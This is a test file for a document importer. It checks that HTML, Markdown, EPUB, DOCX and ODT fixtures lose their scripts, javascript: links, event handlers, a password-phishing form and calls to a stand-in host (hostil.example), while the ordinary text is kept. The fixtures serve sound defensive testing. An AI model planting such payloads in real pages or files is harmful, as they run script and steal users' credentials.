import { expect } from '@open-wc/testing';
import { BALLOONS } from '../fixtures/import/balloons.js';
import { readFile } from '../fixtures/import/expect.js';
import { expectValid } from '../fixtures/import/invariants.js';
import { docxParts, odtParts, zip } from '../fixtures/import/packages.js';

const PROSE =
  'El Estado necesita instituciones sólidas para que la ley se cumpla en todo el territorio, y eso no se logra de un día para otro.';
const SERVER = 'https://hostil.example';

/** What a page may hold that could run, ask for something, or pretend to be the reader's own. */
const EVIL = `<p>${PROSE} <a href="javascript:alert(1)" onclick="alert(2)">uno</a> <a href="data:text/html,x">dos</a> <a href="vbscript:x">tres</a> <a href="&#106;avascript:alert(3)">cuatro</a></p>
<script>robo("${SERVER}/s")</script><img src="${SERVER}/p.gif" width="1" height="1"/><iframe src="${SERVER}/f"></iframe>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(4)"><script>robo()</script><image href="${SERVER}/i.png"/><a href="javascript:alert(5)"><text>dibujo</text></a></svg>
<form action="${SERVER}/enviar"><p>Su clave</p><input name="clave"/><button>Enviar</button></form>
<object data="${SERVER}/o"></object><link rel="stylesheet" href="${SERVER}/c.css"/><video src="${SERVER}/v.mp4"></video><p>${PROSE}</p>`;

const EPUB = {
  'mimetype!': 'application/epub+zip',
  'META-INF/container.xml':
    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="a.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
  'a.opf':
    '<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>T</dc:title></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>',
  'a.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>T</title></head><body>${EVIL}</body></html>`,
};
const RELATIONS = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="h" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:alert(1)" TargetMode="External"/><Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${SERVER}/t.dotm" TargetMode="External"/></Relationships>`;
const WORDS = `<w:p><w:r><w:t xml:space="preserve">${PROSE} </w:t></w:r><w:hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="h"><w:r><w:t>uno</w:t></w:r></w:hyperlink></w:p>`;

const FILES: Record<string, string | Uint8Array> = {
  'a.html': `<!DOCTYPE html><html><head><title>T</title><base href="${SERVER}/"></head><body>${EVIL}</body></html>`,
  'a.mhtml': `From: <Saved by Blink>\nContent-Type: multipart/related; boundary="b"\n\n--b\nContent-Type: text/html; charset=utf-8\nContent-Location: https://a.pe/\n\n<html><body>${EVIL}</body></html>\n--b--\n`,
  'a.md': `# T\n\n${PROSE} [uno](javascript:alert(1)) [dos](<data:text/html,x>) ![p](${SERVER}/p.gif) <script>robo()</script>\n\n${EVIL}\n\n[tres]: javascript:alert(1)\n\n${PROSE} [tres]`,
  'a.epub': zip(EPUB),
  'a.docx': zip({ ...docxParts(WORDS), 'word/_rels/document.xml.rels': RELATIONS }),
  'a.odt': zip(
    odtParts(
      `<text:p>${PROSE} <text:a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">uno</text:a></text:p><text:p><office:script xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" script:language="x">robo()</office:script></text:p>`,
    ),
  ),
};

describe('documents that would do harm', () => {
  for (const [name, content] of Object.entries(FILES))
    it(`${name}: its words come through, and nothing that could run or ask for anything`, async () => {
      const { drafts, problems } = await readFile(name, content);
      expect(problems.filter(({ severity }) => severity === 'error')).to.deep.equal([]);
      drafts.forEach(expectValid);
      const [draft] = drafts;
      expect(draft.blocks.map(({ text }) => text).join(' ')).to.contain(PROSE);
      const all = JSON.stringify([draft.blocks, draft.leftOut]);
      expect(all).not.to.match(/javascript:|vbscript:|data:text|alert\(|robo\(|onclick|<script/i);
      const form = /\.md$/.test(name) ? /Enviar/ : /Su clave|Enviar/;
      expect(draft.blocks.some(({ text }) => form.test(text))).to.equal(false);
      expect(problems.map(({ code }) => code)).to.include('link-unsafe');
      const asked = performance.getEntriesByType('resource').filter((entry) => entry.name.startsWith(SERVER));
      expect(asked).to.deep.equal([]);
    });

  it('notes in balloons are held to the same', async () => {
    const marker = BALLOONS['a plugin without a list'].marker('1', '<a href="javascript:x()">nota</a> mala');
    const { drafts, problems } = await readFile('a.html', `<html><body><p>${PROSE}${marker}</p></body></html>`);
    expect(drafts[0].blocks[1]).to.include({ kind: 'note', text: 'nota mala' });
    expect(drafts[0].blocks[1].marks).to.deep.equal([]);
    expect(problems.map(({ code }) => code)).to.include('link-unsafe');
  });
});

describe('encodings that a file does not state', () => {
  const utf16 = (text: string, little: boolean): Uint8Array => {
    const bytes = new Uint8Array(2 * text.length + 2);
    const view = new DataView(bytes.buffer);
    [...`\ufeff${text}`].forEach((char, i) => view.setUint16(2 * i, char.charCodeAt(0), little));
    return bytes;
  };
  const latin = (text: string): Uint8Array => Uint8Array.from(text, (char) => char.charCodeAt(0));
  const SOURCES = { 'a.md': `# Título\n\n${PROSE}`, 'a.txt': `${PROSE}\n\n${PROSE}` };

  for (const [name, text] of Object.entries(SOURCES))
    it(`${name}: UTF-16 of either kind, and Latin-1`, async () => {
      for (const bytes of [utf16(text, true), utf16(text, false), latin(text)]) {
        const { drafts } = await readFile(name, bytes);
        expect(drafts[0].blocks.at(-1)!.text).to.equal(PROSE);
      }
    });
});
